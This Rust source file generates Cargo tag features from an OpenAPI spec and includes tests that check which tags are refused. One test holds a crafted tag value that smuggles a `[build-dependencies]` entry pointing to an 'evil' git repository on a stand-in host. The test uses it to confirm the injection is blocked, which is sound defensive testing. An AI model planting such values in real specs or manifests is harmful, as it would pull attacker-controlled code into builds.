//! `cargo xtask features [--check]`: the tag features of `partoo-api/Cargo.toml`, one per tag of
//! `openapi/partoo.yaml` (see `partoo_api_build::select`), written between two marker lines. With `--check`
//! nothing is written and a difference is an error; a plain `cargo test` runs the same check. Tags come from an
//! upstream document, so a tag that cannot become a feature of its own (see [`tag_features`]) is refused and
//! the manifest left as it was.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use partoo_api_build::cargo::ALL_TAGS_FEATURE;
use partoo_api_build::select::{spec_tags, tag_feature};
use serde_json::Value;

use crate::flags::{Flags, root};

/// First line of the generated block.
const BEGIN: &str =
    "# --- tag features: written by `cargo xtask features` from openapi/partoo.yaml ---";
/// Last line of the generated block.
const END: &str = "# --- end of tag features ---";

/// The options of this task (see [`crate::flags::Spec`]).
pub(crate) const FLAGS: crate::flags::Spec = crate::flags::Spec {
    values: &["root"],
    switches: &["check"],
};

/// Entry point of `cargo xtask features`.
pub(crate) fn run(flags: Flags) -> Result<(), String> {
    let root = root(&flags);
    let manifest = root.join("partoo-api/Cargo.toml");
    let current = read(&manifest)?;
    let in_manifest = |e: String| format!("{}: {e}", manifest.display());
    let fixed = fixed_features(&current).map_err(in_manifest)?;
    let block = block(&root.join("openapi/partoo.yaml"), &fixed)
        .map_err(|e| format!("{e}\n{} was left unchanged", manifest.display()))?;
    let wanted = rewrite(&current, &block).map_err(in_manifest)?;
    if wanted == current {
        println!("tag features up to date");
        return Ok(());
    }
    if flags.switch("check") {
        return Err(format!(
            "{} does not match the spec's tags; run `cargo xtask features`",
            manifest.display()
        ));
    }
    crate::files::write_atomic(&manifest, wanted.as_bytes())?;
    println!("wrote the tag features of {}", manifest.display());
    Ok(())
}

fn read(path: &Path) -> Result<String, String> {
    std::fs::read_to_string(path).map_err(|e| format!("{}: {e}", path.display()))
}

/// The features block for the spec at `spec` ([`render`]). `fixed` are the manifest's other features ([`fixed_features`]); the error names the
/// spec and every tag [`tag_features`] refuses.
pub(crate) fn block(spec: &Path, fixed: &BTreeSet<String>) -> Result<String, String> {
    let doc = partoo_api_build::load::load_path(spec).map_err(|e| e.to_string())?;
    let features = tag_features(&doc, fixed).map_err(|e| format!("{}: {e}", spec.display()))?;
    Ok(render(&features))
}

/// The features block for `features` (as [`tag_features`] gives them): the umbrella `all-tags`, then one
/// feature per tag, each under a `# tag "…"` comment.
fn render(features: &[(String, String)]) -> String {
    let mut out = format!("{BEGIN}\n");
    out.push_str("# Every tag's operations (on by default); without it, only the enabled tags' operations.\n");
    let names: Vec<String> = features.iter().map(|(f, _)| format!("\"{f}\"")).collect();
    out.push_str(&format!("{ALL_TAGS_FEATURE} = [{}]\n", names.join(", ")));
    for (feature, tag) in features {
        // Debug formatting quotes the tag and escapes `"`, `\\` and anything unprintable: the comment stays
        // one line whatever the spec holds (control characters are refused before).
        out.push_str(&format!("# tag {tag:?}\n{feature} = []\n"));
    }
    out.push_str(END);
    out
}

/// The tag features of `doc` (the tags its operations use), as `(feature, tag)` sorted by feature. Refuses,
/// naming each offending tag and the reason:
/// - a control character (a line break would end the `# tag` comment and let the spec write TOML of its own);
/// - an empty feature name (a tag without letters or digits, such as `()`);
/// - a feature name other than ASCII `a-z`, `0-9` and `-`: it would be no bare TOML key, and the build script
///   could not map it back from `CARGO_FEATURE_*`;
/// - a feature name in `fixed` (`Mock` → `mock`, `All Tags` → `all-tags`);
/// - two tags with the same feature name (`Api Keys`, `ApiKeys`): one feature could not tell them apart.
pub(crate) fn tag_features(
    doc: &Value,
    fixed: &BTreeSet<String>,
) -> Result<Vec<(String, String)>, String> {
    let tags: BTreeSet<&str> = partoo_api_build::walk::operations(doc)
        .into_iter()
        .flat_map(|(_, _, op)| partoo_api_build::select::operation_tags(op))
        .collect();
    let mut by_feature: BTreeMap<String, &str> = BTreeMap::new();
    let mut problems = Vec::new();
    for tag in tags {
        let feature = tag_feature(tag);
        let problem = if let Some(c) = tag.chars().find(|c| c.is_control()) {
            format!("contains the control character U+{:04X}", u32::from(c))
        } else if feature.is_empty() {
            "has no letter or digit: its feature name would be empty".to_owned()
        } else if !feature
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
        {
            format!("would be the feature `{feature}`, which is not ASCII kebab case (a-z, 0-9, -)")
        } else if fixed.contains(&feature) {
            format!(
                "would be the feature `{feature}`, which partoo-api already has for another purpose"
            )
        } else if let Some(other) = by_feature.insert(feature.clone(), tag) {
            format!("and tag {other:?} would both be the feature `{feature}`")
        } else {
            continue;
        };
        problems.push(format!("tag {tag:?} {problem}"));
    }
    if problems.is_empty() {
        Ok(by_feature
            .into_iter()
            .map(|(f, tag)| (f, tag.to_owned()))
            .collect())
    } else {
        Err(format!(
            "tags that cannot become features of partoo-api (rename them upstream or in the spec):\n  {}",
            problems.join("\n  ")
        ))
    }
}

/// The features a tag feature must not take: those of `manifest`'s `[features]` outside the generated block
/// (`rustls`, `mock`, `cli`, …), `default` and the umbrella `all-tags`.
fn fixed_features(manifest: &str) -> Result<BTreeSet<String>, String> {
    let outside: toml::Table = toml::from_str(&rewrite(manifest, "")?)
        .map_err(|e| format!("outside the tag features: {e}"))?;
    let mut fixed: BTreeSet<String> = outside
        .get("features")
        .and_then(toml::Value::as_table)
        .map(|t| t.keys().cloned().collect())
        .unwrap_or_default();
    fixed.extend(["default", ALL_TAGS_FEATURE].map(str::to_owned));
    Ok(fixed)
}

/// `manifest` with the text between (and including) the marker lines replaced by `block`.
fn rewrite(manifest: &str, block: &str) -> Result<String, String> {
    let range = block_range(manifest)?;
    Ok(format!(
        "{}{block}{}",
        &manifest[..range.start],
        &manifest[range.end..]
    ))
}

/// Where the generated block is in `manifest`: from its first marker line to the end of its last.
fn block_range(manifest: &str) -> Result<std::ops::Range<usize>, String> {
    let start = manifest
        .find(BEGIN)
        .ok_or_else(|| format!("no line `{BEGIN}` in [features]"))?;
    let end = manifest[start..]
        .find(END)
        .map(|at| start + at + END.len())
        .ok_or_else(|| format!("no line `{END}` after `{BEGIN}`"))?;
    Ok(start..end)
}

/// How the tags of a spec compare with the tag features of a manifest ([`compare_tags`]).
#[derive(Debug, Default)]
pub(crate) struct TagCheck {
    /// Tags without a feature in the generated block, as `Tag (feature `tag`)`.
    pub(crate) missing: Vec<String>,
    /// Tags whose feature name is taken by a feature outside the block (`Mock` → `mock`): errors.
    pub(crate) colliding: Vec<String>,
}

/// Compares the tags of `doc` (a spec, raw or normalised) with the features of the generated block of the
/// manifest at `manifest` (only that block: a fixed feature or a dependency of the same name is no tag
/// feature); `sync-spec` reports the result.
pub(crate) fn compare_tags(doc: &Value, manifest: &Path) -> Result<TagCheck, String> {
    let text = read(manifest)?;
    let in_manifest = |e: String| format!("{}: {e}", manifest.display());
    let fixed = fixed_features(&text).map_err(in_manifest)?;
    let block: toml::Table = toml::from_str(&text[block_range(&text).map_err(in_manifest)?])
        .map_err(|e| in_manifest(format!("the tag features: {e}")))?;
    let mut check = TagCheck::default();
    for (tag, feature) in spec_tags(doc) {
        if fixed.contains(&feature) {
            check.colliding.push(format!(
                "tag {tag:?} would be the feature `{feature}`, which partoo-api already has for another purpose"
            ));
        } else if !block.contains_key(&feature) {
            check.missing.push(format!("{tag} (feature `{feature}`)"));
        }
    }
    Ok(check)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn workspace() -> std::path::PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .parent()
            .map(Path::to_path_buf)
            .unwrap_or_default()
    }

    #[test]
    fn partoo_api_has_one_feature_per_tag_of_the_spec() {
        let root = workspace();
        let manifest = read(&root.join("partoo-api/Cargo.toml")).expect("manifest");
        let fixed = fixed_features(&manifest).expect("manifest parses");
        let wanted = block(&root.join("openapi/partoo.yaml"), &fixed).expect("spec loads");
        let rewritten = rewrite(&manifest, &wanted).expect("markers present");
        assert!(
            rewritten == manifest,
            "partoo-api/Cargo.toml's tag features do not match openapi/partoo.yaml's tags; fix: cargo xtask features"
        );
    }

    #[test]
    fn the_block_names_each_tag_once_in_kebab_case() {
        let dir = std::env::temp_dir().join(format!("xtask-features-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let spec = dir.join("spec.yaml");
        std::fs::write(
            &spec,
            "openapi: 3.1.0\ninfo: {title: t, version: '1'}\npaths:\n  /a:\n    get:\n      tags: [Groups and Sections, ApiKeys]\n      responses: {'200': {description: ok}}\n  /b:\n    get:\n      tags: [ApiKeys]\n      responses: {'200': {description: ok}}\n",
        )
        .expect("write spec");
        let block = block(&spec, &BTreeSet::new()).expect("block");
        assert!(
            block.contains("all-tags = [\"api-keys\", \"groups-and-sections\"]"),
            "{block}"
        );
        assert_eq!(block.matches("\napi-keys = []").count(), 1, "{block}");
        let manifest =
            format!("[features]\ndefault = []\n{BEGIN}\nold = []\n{END}\n\n[dependencies]\n");
        let rewritten = rewrite(&manifest, &block).expect("rewrite");
        assert!(!rewritten.contains("old = []") && rewritten.ends_with("[dependencies]\n"));
        assert_eq!(
            tag_feature("Business Fields (DEPRECATED)"),
            "business-fields-deprecated"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    /// A document with one operation per tag.
    fn doc(tags: &[&str]) -> Value {
        let paths: serde_json::Map<String, Value> = tags
            .iter()
            .enumerate()
            .map(|(i, tag)| {
                let op = serde_json::json!({"get": {"tags": [tag], "responses": {}}});
                (format!("/op{i}"), op)
            })
            .collect();
        serde_json::json!({"openapi": "3.1.0", "paths": paths})
    }

    /// The fixed features of a manifest like partoo-api's.
    fn fixed() -> BTreeSet<String> {
        let manifest = format!(
            "[package]\nname = \"p\"\n\n[features]\ndefault = [\"rustls\", \"all-tags\"]\nrustls = []\n\
             native-tls = []\nmock = []\ncli = []\n{BEGIN}\nall-tags = [\"old\"]\nold = []\n{END}\n"
        );
        fixed_features(&manifest).expect("fixed features")
    }

    fn refused(tags: &[&str]) -> String {
        match tag_features(&doc(tags), &fixed()) {
            Ok(features) => panic!("{tags:?} accepted as {features:?}"),
            Err(e) => e,
        }
    }

    #[test]
    fn an_ordinary_tag_becomes_its_kebab_case_feature() {
        let features = tag_features(&doc(&["Review Booster", "Say \"Hi\""]), &fixed()).unwrap();
        assert_eq!(
            features,
            [
                ("review-booster".to_owned(), "Review Booster".to_owned()),
                ("say-hi".to_owned(), "Say \"Hi\"".to_owned()),
            ]
        );
        let block = render(&features);
        assert!(
            block.contains("\n# tag \"Review Booster\"\nreview-booster = []\n"),
            "{block}"
        );
        assert!(
            block.contains("\n# tag \"Say \\\"Hi\\\"\"\nsay-hi = []\n"),
            "{block}"
        );
        let manifest = format!("[features]\n{block}\n");
        toml::from_str::<toml::Table>(&manifest).expect("the block is valid TOML");
    }

    #[test]
    fn the_fixed_features_are_those_outside_the_block() {
        let fixed = fixed();
        let want = ["all-tags", "cli", "default", "mock", "native-tls", "rustls"];
        assert_eq!(fixed.iter().map(String::as_str).collect::<Vec<_>>(), want);
        let root = workspace();
        let manifest = read(&root.join("partoo-api/Cargo.toml")).expect("manifest");
        let real = fixed_features(&manifest).expect("manifest parses");
        assert!(want.iter().all(|f| real.contains(*f)), "{real:?}");
        assert!(!real.contains("reviews"), "{real:?}");
    }

    #[test]
    fn a_tag_named_like_a_fixed_feature_is_refused() {
        for (tag, feature) in [
            ("Mock", "mock"),
            ("CLI", "cli"),
            ("Default", "default"),
            ("All Tags", "all-tags"),
            ("rustls", "rustls"),
            ("Native TLS", "native-tls"),
        ] {
            let err = refused(&["Reviews", tag]);
            assert!(
                err.contains(&format!(
                    "tag \"{tag}\" would be the feature `{feature}`, which partoo-api already has"
                )),
                "{err}"
            );
            assert!(!err.contains("\"Reviews\""), "{err}");
        }
    }

    #[test]
    fn new_tags_are_compared_with_the_tag_block_only() {
        let dir = std::env::temp_dir().join(format!("xtask-features-new-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let manifest = dir.join("Cargo.toml");
        std::fs::write(
            &manifest,
            format!(
                "[package]\nname = \"p\"\n\n[features]\ndefault = []\nmock = []\n{BEGIN}\n\
                 all-tags = [\"reviews\"]\nreviews = []\n{END}\n\n[dependencies]\nurl = \"2\"\n"
            ),
        )
        .expect("write manifest");
        let found = compare_tags(&doc(&["Reviews", "URL", "Mock"]), &manifest);
        let _ = std::fs::remove_dir_all(&dir);
        let found = found.expect("compared");
        assert_eq!(found.missing, ["URL (feature `url`)"]);
        assert_eq!(found.colliding.len(), 1, "{:?}", found.colliding);
        assert!(
            found.colliding[0].contains("tag \"Mock\" would be the feature `mock`"),
            "{:?}",
            found.colliding
        );
    }

    #[test]
    fn two_tags_with_the_same_feature_are_refused() {
        let err = refused(&["ApiKeys", "Api Keys"]);
        assert!(
            err.contains(
                "tag \"ApiKeys\" and tag \"Api Keys\" would both be the feature `api-keys`"
            ),
            "{err}"
        );
    }

    #[test]
    fn a_tag_with_an_empty_feature_name_is_refused() {
        for tag in ["()", "", " - "] {
            let err = refused(&[tag]);
            assert!(
                err.contains(&format!("tag {tag:?} has no letter or digit")),
                "{err}"
            );
        }
    }

    #[test]
    fn a_tag_outside_ascii_kebab_case_is_refused() {
        let err = refused(&["Café"]);
        assert!(
            err.contains("tag \"Café\" would be the feature `café`, which is not ASCII kebab case"),
            "{err}"
        );
    }

    #[test]
    fn a_tag_with_a_control_character_is_refused_and_injects_nothing() {
        let injected =
            "Reviews\n[build-dependencies]\nevil = { git = \"https://example.com/evil\" }\n#";
        let err = refused(&[injected, "Tab\there"]);
        assert!(
            err.contains("tag \"Reviews\\n[build-dependencies]") && err.contains("U+000A"),
            "{err}"
        );
        assert!(
            err.contains("tag \"Tab\\there\" contains the control character U+0009"),
            "{err}"
        );
        assert!(
            !err.contains("\n[build-dependencies]"),
            "the error quotes the tag on one line: {err}"
        );
        // Through a spec file, as `cargo xtask features` reads it: the error names the file.
        let dir =
            std::env::temp_dir().join(format!("xtask-features-inject-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let spec = dir.join("spec.yaml");
        std::fs::write(
            &spec,
            "openapi: 3.1.0\ninfo: {title: t, version: '1'}\npaths:\n  /a:\n    get:\n      \
             tags: [\"Reviews\\n[build-dependencies]\\nevil = { git = \\\"https://example.com/evil\\\" }\"]\n      \
             responses: {'200': {description: ok}}\n",
        )
        .expect("write spec");
        let err = block(&spec, &fixed()).unwrap_err();
        let _ = std::fs::remove_dir_all(&dir);
        assert!(
            err.starts_with(&spec.display().to_string()) && err.contains("U+000A"),
            "{err}"
        );
    }
}
